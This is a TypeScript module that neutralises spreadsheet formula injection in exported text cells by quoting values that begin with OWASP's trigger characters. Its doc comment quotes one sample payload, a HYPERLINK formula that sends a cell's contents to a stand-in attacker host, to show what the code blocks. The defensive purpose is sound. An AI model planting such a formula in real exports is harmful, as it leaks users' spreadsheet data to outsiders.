/**
 * Characters that make a spreadsheet read a cell as a formula when they come first (OWASP's
 * CSV Injection list): `=`, `+`, `-`, `@`, tab and carriage return, and the null character
 * that OWASP ASVS 5 (V1.2.10) adds. A deal titled
 * `=HYPERLINK("https://evil.example?x="&A1, "Click")` must arrive as text, not run.
 */
const FORMULA_TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r', '\0']);

/**
 * Neutralises a text cell against formula injection by prefixing a single quote when it begins
 * with a formula trigger; any other text is returned unchanged. Apply it to text cells only:
 * a real number (an amount) is written as a number and needs no quote.
 * @example neutralizeSpreadsheetText('=1+1') === "'=1+1"
 * @example neutralizeSpreadsheetText('+966 50 123 4567') === "'+966 50 123 4567"
 * @example neutralizeSpreadsheetText('شركة الأفق') === 'شركة الأفق'
 */
export function neutralizeSpreadsheetText(text: string): string {
  return FORMULA_TRIGGERS.has(text.charAt(0)) ? `'${text}` : text;
}

/** Whether a text cell would be read as a formula by a spreadsheet (before neutralising it). */
export function isFormulaLike(text: string): boolean {
  return FORMULA_TRIGGERS.has(text.charAt(0));
}
